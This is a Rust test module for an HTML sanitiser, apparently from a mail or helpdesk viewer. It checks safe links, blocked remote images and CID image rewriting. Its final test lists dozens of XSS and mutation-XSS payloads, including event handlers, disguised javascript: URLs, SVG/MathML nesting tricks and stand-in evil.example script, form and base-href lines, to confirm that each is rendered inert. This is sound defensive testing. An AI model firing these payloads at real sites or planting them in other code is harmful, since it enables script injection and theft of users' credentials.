//! Tests of the display policy: formatting survives, remote images do not load, and a
//! regression set of XSS and mXSS payloads never yields script-capable output.

use super::*;

/// Fails if `html` could run script or load anything when a browser renders it: checked on
/// the structure (every tag, attribute and URL), not on the text, which may mention `<script>`
/// harmlessly once escaped.
fn assert_inert(input: &str, html: &str, stable: bool) {
    let allowed_tags: HashSet<&str> = DISPLAY_TAGS.iter().copied().collect();
    for token in tokenize(html) {
        match token {
            Token::Start { name, attrs, .. } => {
                assert!(
                    allowed_tags.contains(name.as_str()),
                    "<{name}> survived sanitising {input:?}: {html:?}"
                );
                for (attr, value) in attrs {
                    assert!(
                        [
                            "title", "lang", "dir", "href", "src", "alt", "width", "height",
                            "colspan", "rowspan", "start", "rel"
                        ]
                        .contains(&attr.as_str()),
                        "attribute {attr} on <{name}> survived {input:?}: {html:?}"
                    );
                    if attr == "href" || attr == "src" {
                        let lower = value.to_ascii_lowercase();
                        assert!(
                            ["https://", "http://", "mailto:", "cid:", "/attachments/"]
                                .iter()
                                .any(|scheme| lower.starts_with(scheme)),
                            "URL {value:?} survived {input:?}: {html:?}"
                        );
                    }
                }
            }
            Token::End { name, .. } => assert!(
                allowed_tags.contains(name.as_str()),
                "</{name}> in {html:?}"
            ),
            Token::Text(_) => {}
        }
    }
    // Text never carries a raw `<`, and the output parses back to itself.
    assert!(
        !html.contains("<!"),
        "markup declaration survived {input:?}: {html:?}"
    );
    if stable {
        assert_eq!(sanitize_html(html), html, "not stable for {input:?}");
    }
}

#[test]
fn formatting_survives() {
    let html = "<p>Hello <b>bold</b> <i>it</i> <u>u</u></p><ul><li>one</li></ul>\
        <table><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table>\
        <blockquote>quoted</blockquote><pre>code</pre>";
    assert_eq!(sanitize_html(html), html);
}

#[test]
fn links_are_forced_safe() {
    assert_eq!(
        sanitize_html(r#"<a href="https://example.com/x" target="_top" onclick="x()">x</a>"#),
        r#"<a href="https://example.com/x" rel="noopener noreferrer nofollow">x</a>"#
    );
    assert_eq!(
        sanitize_html(r#"<a href="mailto:desk@example.com">mail</a>"#),
        r#"<a href="mailto:desk@example.com" rel="noopener noreferrer nofollow">mail</a>"#
    );
    assert_eq!(
        sanitize_html(r#"<a href="/admin/users/1/delete">x</a>"#),
        r#"<a rel="noopener noreferrer nofollow">x</a>"#
    );
    assert_eq!(
        sanitize_html(r#"<a href="ftp://example.com/">x</a>"#),
        r#"<a rel="noopener noreferrer nofollow">x</a>"#
    );
    assert_eq!(
        sanitize_html(r#"<a href="cid:part1">x</a>"#),
        r#"<a rel="noopener noreferrer nofollow">x</a>"#
    );
}

#[test]
fn remote_images_are_not_loaded() {
    let result = sanitize_html_limited(
        r#"<p>Hi<img src="https://tracker.example/pixel.gif?u=1" alt="Company logo"><img src="http://x/y.png"><img src="data:image/png;base64,AAAA" alt="<b>x</b>"></p>"#,
        DEFAULT_MAX_HTML_BYTES,
    );
    assert_eq!(
        result.html,
        "<p>Hi[image: Company logo][image][image: &lt;b&gt;x&lt;/b&gt;]</p>"
    );
    assert_eq!(result.blocked_images, 3);
    assert!(!result.truncated);
}

#[test]
fn cid_images_are_kept_and_can_be_rewritten() {
    let html = r#"<p><img src="cid:image001.png@01D9A1B2.C3D4E5F0" alt="chart" width="300"><img src="cid:missing@x"></p>"#;
    let sanitized = sanitize_html(html);
    assert_eq!(sanitized, html);
    let rewritten = rewrite_cid_images(&sanitized, |cid| {
        (cid == "image001.png@01D9A1B2.C3D4E5F0").then(|| "/attachments/7?a=1&b=2".to_owned())
    });
    assert_eq!(
        rewritten,
        r#"<p><img src="/attachments/7?a=1&amp;b=2" alt="chart" width="300">[image]</p>"#
    );
}

#[test]
fn rewriting_refuses_unsafe_targets_and_sanitises_its_input() {
    for target in [
        "javascript:alert(1)",
        "//evil.example/x",
        "data:text/html,x",
        " /x",
        "/x y",
    ] {
        let out = rewrite_cid_images(r#"<img src="cid:a" alt="a">"#, |_| Some(target.to_owned()));
        assert_eq!(out, "[image: a]", "{target}");
    }
    let out = rewrite_cid_images(
        r#"<script>alert(1)</script><img src="cid:a" onerror="alert(1)">"#,
        |_| Some("https://desk.example.com/a/1".to_owned()),
    );
    assert_eq!(out, r#"<img src="https://desk.example.com/a/1">"#);
}

#[test]
fn cid_urls_are_percent_decoded() {
    assert_eq!(cid_of("cid:foo%40bar.com"), Some("foo@bar.com".to_owned()));
    assert_eq!(cid_of("CID:<abc>"), Some("abc".to_owned()));
    assert_eq!(cid_of("https://x"), None);
    assert_eq!(cid_of("cid:"), None);
    let refs =
        cid_references(r#"<img src="cid:Image001.PNG@x"><div style="background:url(cid:bg)">"#);
    assert!(refs.contains("image001.png@x"));
    assert!(refs.contains("bg"));
}

#[test]
fn huge_input_is_cut() {
    let html = "<p>x</p>".repeat(1000);
    let result = sanitize_html_limited(&html, 100);
    assert!(result.truncated);
    assert!(result.html.len() <= 120);
}

#[test]
fn deep_nesting_does_not_overflow_the_stack() {
    for tag in ["div", "b", "blockquote", "table", "ul"] {
        let html = format!("<{tag}>").repeat(20_000);
        let out = sanitize_html(&html);
        assert!(out.len() < html.len() * 4);
        html_to_text(&html);
    }
}

#[test]
fn xss_and_mxss_payloads_are_inert() {
    let payloads = [
        // Plain script and its relatives.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<img src=\"cid:x\" onerror=\"alert(1)\" onload=alert(2)>",
        "<body onload=alert(1)>",
        "<p onmouseover=\"alert(1)\">hover</p>",
        "<div/onclick=alert(1)>x</div>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        // Script URLs, plain and disguised.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        // SVG and MathML, including namespace confusion.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></path></textarea></mtext></svg></mglyph></mi></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test</a></iframe></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        // Raw-text and comment nesting tricks.
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style><img src=x onerror=alert(1)></style>",
        "<style></style><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<template><script>alert(1)</script></template>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<![if !mso]><img src=x onerror=alert(1)><![endif]>",
        // Frames, objects, forms, meta and base.
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/\"><input name=password><button formaction=javascript:alert(1)>go</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        // Styles that load or run things.
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"behavior:url(x.htc)\">x</p>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        // Attribute breakouts.
        "<img alt=\"\"\" onerror=alert(1)//\">",
        "<a title='\"><script>alert(1)</script>'>x</a>",
        "<img src=cid:x alt=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<a href=\"https://example.com\" \"onmouseover=alert(1)\">x</a>",
        // Odd markup.
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<isindex action=javascript:alert(1) type=image>",
        "<marquee onstart=alert(1)>",
        "\u{0}<script>alert(1)</script>",
        "<scr\u{0}ipt>alert(1)</script>",
    ];
    for payload in payloads {
        let html = sanitize_html(payload);
        assert_inert(payload, &html, true);
        let rewritten = rewrite_cid_images(payload, |_| Some("/attachments/1".to_owned()));
        assert_inert(payload, &rewritten, false);
        // Plain text is never HTML; it only has to come out without a panic.
        html_to_text(payload);
    }
}
